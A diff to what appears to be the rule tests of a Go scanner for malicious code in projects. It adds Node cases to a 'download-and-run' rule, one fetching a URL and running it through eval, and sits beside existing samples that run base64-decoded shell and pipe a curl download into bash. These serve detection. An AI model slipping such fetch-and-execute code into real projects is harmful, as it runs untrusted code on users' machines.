@@ -187,6 +187,10 @@ var registry = []Rule{
 			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// Node's client required inline (require("https").get) downloads as
+		// https.get does; what it saves as data is not run.
+		{"scripts/p.js", "require(\"node:https\").get(\"https://x.invalid/p\", (res) => {\n  let body = \"\";\n  res.on(\"data\", (c) => (body += c));\n  res.on(\"end\", () => eval(body));\n});", 4, false},
+		{"scripts/p.js", "require(\"https\").get(\"https://x.invalid/data.json\", (res) => res.pipe(require(\"fs\").createWriteStream(\"data.json\")));", 0, true},
 		// A template string with nothing interpolated is the literal a
 		// quoted string is: the commands it starts are read as written.
 		{"scripts/build.js", "const { execSync } = require(\"child_process\");\nexecSync(`curl -s https://x.invalid/p -o /tmp/p.sh`);\nexecSync(`bash /tmp/p.sh`);", 3, false},
